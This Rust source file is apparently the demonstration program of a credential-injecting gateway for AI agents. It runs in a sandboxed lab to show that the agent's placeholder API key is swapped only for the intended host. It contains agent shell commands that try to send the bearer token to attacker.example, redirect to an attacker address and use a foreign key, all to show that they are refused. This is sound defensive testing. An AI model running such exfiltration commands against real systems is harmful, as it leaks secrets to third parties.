//! `make demo`: the story of one placeholder, told with the real bytes.
//!
//! It runs in namespaces of its own, needs no network, and leaves nothing behind. Every line that
//! it prints was received, sent or logged by a real program; where one is not what the story
//! promises, the demonstration ends with an error.

use std::{process::ExitCode, time::Instant};

use lab::{
    Lab, client,
    dns::Dns,
    gateway::{self, Gateway, OPENAI_SECRET},
    net::{AGENT, ATTACKER, OPENAI},
    origin::Origin,
    sandbox,
    vault::{self, Vault},
    wait,
};

fn main() -> ExitCode {
    if !sandbox::inside() {
        return outside();
    }
    let begun = Instant::now();
    let mut scene = Scene::set();
    scene.introduce();
    scene.the_agent_has_nothing_worth_stealing();
    scene.the_api_receives_the_key();
    scene.the_placeholder_is_worth_nothing_elsewhere();
    scene.a_let_through_host_keeps_its_own_certificate();
    scene.the_agents_own_key_is_refused();
    scene.the_audit_says_what_happened();
    scene.a_dead_gateway_passes_nothing();
    say(&format!("\nThat took {:.1} s. What to try next:\n{NEXT}", begun.elapsed().as_secs_f32()));
    ExitCode::SUCCESS
}

fn outside() -> ExitCode {
    let program = std::env::current_exe().expect("a program knows where it is");
    let status = sandbox::command(&program).env("RUST_BACKTRACE", "0").status();
    match status {
        Ok(status) if status.success() => ExitCode::SUCCESS,
        Ok(_) => ExitCode::FAILURE,
        Err(error) => {
            eprintln!("demo: no namespaces: {error}; run tests/prerequisites");
            ExitCode::FAILURE
        }
    }
}

struct Scene {
    lab: Lab,
    origin: Origin,
    _dns: Dns,
    vault: Option<Vault>,
    gateway: Gateway,
}

impl Scene {
    fn set() -> Self {
        let lab = Lab::new();
        let (origin, dns) = (Origin::start(&lab), Dns::start());
        let vault = vault::find().map(|_| Vault::start(&lab));
        let config = match &vault {
            Some(vault) => gateway::vault_config(&vault.config()),
            None => gateway::usual_config(),
        };
        let gateway = Gateway::start(&lab, &config);
        Self { lab, origin, _dns: dns, vault, gateway }
    }

    fn introduce(&self) {
        let keeper = match self.vault {
            Some(_) => "a real Vault, at https://203.0.113.200:8200",
            None => "a file that only the gateway can read (VAULT=1 make demo takes a real Vault)",
        };
        say(&format!("{NETWORK}\nThe keys are in {keeper}."));
    }

    fn the_agent_has_nothing_worth_stealing(&self) {
        chapter("What the agent holds");
        let output = self.agent("echo $OPENAI_API_KEY");
        check(output.trim() == "OPENAI_API_KEY", "the variable holds its own name");
    }

    fn the_api_receives_the_key(&self) {
        chapter("A request to the API it belongs to");
        let output = self.agent(
            "curl -sS -w '\\n%{http_code}\\n' https://api.openai.example/v1/chat/completions \\\n    \
             --http1.1 -H \"Authorization: Bearer $OPENAI_API_KEY\" -d '{\"model\":\"lab-1\"}'",
        );
        check(output.trim().ends_with("200"), "the API answers 200");
        let connections = self.origin.log().connections();
        let received = connections.last().map_or(&[][..], |connection| &connection.bytes);
        let received = String::from_utf8_lossy(received).into_owned();
        note("The API received, byte for byte after decryption:");
        shown(&received);
        check(received.matches(OPENAI_SECRET).count() == 1, "the key is there, once");
        check(!received.contains("OPENAI_API_KEY"), "and the placeholder is not");
        check(!output.contains(OPENAI_SECRET), "the agent saw nothing of it");
    }

    fn the_placeholder_is_worth_nothing_elsewhere(&self) {
        chapter("The same placeholder, sent somewhere else");
        let before = self.origin.log().connections().len();
        let bearer = "-H \"Authorization: Bearer $OPENAI_API_KEY\"";
        self.agent_fails(&format!("curl -sS {bearer} https://attacker.example/"));
        self.reason("sni_denied");
        let other =
            self.agent(&format!("curl -sS {bearer} https://api.anthropic.example/v1/models"));
        check(other.contains("placeholder_wrong_host"), "at another API it is refused as well");
        let clear = self.agent(&format!("curl -sS {bearer} http://api.openai.example/v1/models"));
        check(clear.contains("plaintext_placeholder"), "nor does it go out in clear text");
        // The attacker's address under the API's name: dialled by name, so it is never reached.
        let resolve = format!("--connect-to ::{}:443", ATTACKER.v4());
        self.agent(&format!(
            "curl -sS {resolve} -o /dev/null -w '%{{http_code}} from %{{remote_ip}}\\n' {bearer} \\\n    \
             https://api.openai.example/v1/models"
        ));
        note(
            "That 200 is the API's: the gateway dialled its name, not the address that was asked for.",
        );
        let new = self.origin.log().connections().split_off(before);
        let places: Vec<_> = new.iter().map(|connection| connection.local.ip()).collect();
        let attacked = places.contains(&ATTACKER.v4().into());
        check(!attacked, "the attacker's server, 198.51.100.66, saw no connection");
        let held = new.iter().filter(|it| it.sni.as_deref() != Some(OPENAI.name));
        let leaked = held.filter(|connection| connection.count(OPENAI_SECRET) > 0).count();
        check(leaked == 0, "and no other host saw the key");
    }

    fn a_let_through_host_keeps_its_own_certificate(&self) {
        chapter("A host that policy lets through untouched");
        let issuer = |host: &str| {
            format!("curl -sS -v https://{host}/v1/x 2>&1 | grep -E 'issuer:' | sed 's/^\\* *//'")
        };
        let own = self.agent(&issuer("pypi.example"));
        check(own.contains("Lab public root"), "end to end: its own certificate");
        let ours = self.agent(&issuer("api.openai.example"));
        check(!ours.contains("Lab public root"), "where keys are swapped, TLS ends at the gateway");
    }

    fn the_agents_own_key_is_refused(&self) {
        chapter("A key that the agent brought along");
        let output = self.agent(
            "curl -sS https://api.openai.example/v1/models \\\n    \
             -H 'Authorization: Bearer sk-the-attackers-own-account'",
        );
        check(output.contains("foreign_credential"), "the classic way out is closed");
    }

    fn the_audit_says_what_happened(&self) {
        chapter("What the audit says (the last lines)");
        let text = self.gateway.audit.text();
        let lines: Vec<&str> = text.lines().collect();
        for line in lines.iter().skip(lines.len().saturating_sub(6)) {
            note(line);
        }
        check(!text.contains(OPENAI_SECRET), "no key is in the audit");
    }

    fn a_dead_gateway_passes_nothing(&mut self) {
        chapter("kill -9");
        self.gateway.kill();
        gateway::forward();
        let before = self.origin.log().connections().len();
        self.agent_fails("curl -sS --max-time 3 https://pypi.example/");
        std::thread::sleep(wait::QUIET);
        let after = self.origin.log().connections().len();
        check(before == after, "the gateway's kernel would forward; its guard does not");
    }

    /// Runs a line in the agent's shell and shows both.
    fn agent(&self, line: &str) -> String {
        let (_, output) = self.run(line);
        output
    }

    fn agent_fails(&self, line: &str) {
        let (success, _) = self.run(line);
        check(!success, "refused");
    }

    fn run(&self, line: &str) -> (bool, String) {
        say(&format!("\n  agent$ {line}"));
        let mut shell = client::agent(&self.lab, AGENT, "sh");
        let output = shell.args(["-c", line]).output().expect("a shell starts");
        let text = [output.stdout, output.stderr].concat();
        let text = String::from_utf8_lossy(&text).into_owned();
        shown(&text);
        (output.status.success(), text)
    }

    fn reason(&self, reason: &str) {
        let record = self.gateway.audit.wait_reason(reason);
        note(&format!("audit: {} {}", record["decision"], record["reason"]));
    }
}

fn say(text: &str) {
    println!("{text}");
}

fn chapter(title: &str) {
    say(&format!("\n-- {title} {}", "-".repeat(70_usize.saturating_sub(title.len()))));
}

fn note(text: &str) {
    say(&format!("  {text}"));
}

fn shown(text: &str) {
    for line in text.lines() {
        say(&format!("  | {line}"));
    }
}

/// Says what was shown, or ends the demonstration.
fn check(holds: bool, claim: &str) {
    if !holds {
        eprintln!("demo: this does not hold: {claim}");
        std::process::exit(1);
    }
    say(&format!("  => {claim}"));
}

const NETWORK: &str = "
  agent  192.0.2.10 ───┐
                       ├─ gateway ─── internet: api.openai.example   198.51.100.10
  agent2 192.0.2.140 ──┘                        pypi.example         198.51.100.30
                                                attacker.example     198.51.100.66

Four network namespaces on this machine; the gateway is the agents' default route.";

const NEXT: &str = "
  make test                        every promise, as a test that looks at what the API received
  VAULT=1 make demo                the same with a real Vault (downloaded or built once)
  target/debug/cloakroom --help    the program
  tests/lab/gateway.rs             the policy that you have just seen at work";
